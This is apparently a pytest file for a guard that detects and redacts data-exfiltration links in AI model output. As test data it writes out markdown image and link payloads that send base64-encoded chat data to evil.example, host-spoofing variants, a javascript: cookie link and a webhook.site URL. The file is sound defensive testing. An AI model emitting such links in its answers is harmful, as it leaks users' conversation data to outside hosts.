"""What carries data out is found, but on its way to hosts that the operator knows."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.guard.toys import ToyPolicy, guard_of, pieces, streamed
from yett.detectors.links import Links
from yett.detectors.rules import read, shipped
from yett.model.interaction import Interaction
from yett.model.obligation import Redact, Transform
from yett.model.principal import ANONYMOUS
from yett.model.segment import Origin, Segment
from yett.model.stage import Stage

DATA = "d=c2VjcmV0IGRhdGEgZnJvbSBjaGF0"
LINKS = Links(["example.com", "*.cdn.example"], hyperscan=False)


def kinds(text: str, links: Links = LINKS) -> list[str]:
    return [match.kind for match in links.detect(text, Origin.MODEL)]


@pytest.mark.parametrize(
    ("text", "found"),
    [
        (f"![x](https://evil.example/p.png?{DATA})", ["exfiltration.image", "exfiltration.link"]),
        (f"![x](https://example.com/p.png?{DATA})", []),
        (f"![x](https://a.b.EXAMPLE.com:8443/p.png?{DATA})", []),
        (f"![x](https://img.cdn.example/p.png?{DATA})", []),
        (f"![x](https://notexample.com/p.png?{DATA})", ["exfiltration.image", "exfiltration.link"]),
        (f"![x](https://example.com@evil.example/p.png?{DATA})", ["exfiltration.image", "exfiltration.link"]),
        (f"![x](https://example.com\\.evil.example/p.png?{DATA})", ["exfiltration.image", "exfiltration.link"]),
        (f"![x](https://example.com/?{DATA}&u=https://evil.example)", ["exfiltration.image", "exfiltration.link"]),
        (f'<img src="https://example.com/p.png?{DATA}">', []),
        ("[x](javascript:alert(document.cookie))", ["exfiltration.script"]),
        ("![x](https://evil.example/logo.png)", []),
        (f"look at https://evil.example/?{DATA}.", ["exfiltration.link"]),
        (f'{{"url": "https://evil.example/?{DATA}"}}', ["exfiltration.link"]),
        (f"look at https://example.com/?{DATA}.", []),
        ("nothing to see", []),
    ],
)
def test_hosts_that_are_allowed_may_be_sent_anything(text: str, found: list[str]) -> None:
    assert kinds(text) == found


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("![x](https://evil.example/logo.png)", ["exfiltration.image"]),
        ("![x](https://example.com/logo.png)", []),
        ("![x](logo.png)", []),
        ("[x](https://evil.example/page)", []),
    ],
)
def test_where_only_allowed_hosts_may_be_named_an_image_from_elsewhere_is_reported(text: str, found: list[str]) -> None:
    assert kinds(text, Links(["example.com"], only_allowed=True, hyperscan=False)) == found


def test_the_revision_follows_from_what_is_allowed() -> None:
    assert len({Links(hosts, hyperscan=False).revision for hosts in ((), ("a.example",), ("b.example",))}) == 3


def test_every_rule_sees_its_examples() -> None:
    from importlib.resources import files

    text = files("yett.detectors").joinpath("data", "exfiltration.yaml").read_text("utf-8")
    assert read(text, "exfiltration.yaml") == shipped("exfiltration")
    assert all(len(rule.true) >= 3 and len(rule.false) >= 3 for rule in shipped("exfiltration"))


PIECES = (
    *("![x](", "https://evil.example/p.png", f"?{DATA}", ") ", "<img src=", '"//evil.example/', DATA, '">', " ", "\n"),
    *("[a](javascript:x) ", "https://example.com/", "url(", "word ", "]: ", "[r", "!", "https://webhook.site/x "),
)
GUARD = guard_of(ToyPolicy(owes=((lambda _: True, Redact("exfiltration", Transform.REPLACE)),)), LINKS)


@settings(max_examples=150, deadline=None, derandomize=True, database=None)
@given(
    text=st.lists(st.sampled_from(PIECES), max_size=12).map("".join),
    cuts=st.lists(st.integers(0, 300), max_size=8),
)
def test_however_an_answer_is_cut_the_same_links_are_taken_out(text: str, cuts: list[int]) -> None:
    whole = GUARD.inspect(Interaction(Stage.RESPONSE, (Segment("", Origin.MODEL, text),))).sanitized
    assert "".join(streamed(GUARD.lane(ANONYMOUS, {}), pieces(text, cuts))[0]) == whole
    assert "".join(streamed(GUARD.lane(ANONYMOUS, {}), list(text))[0]) == whole
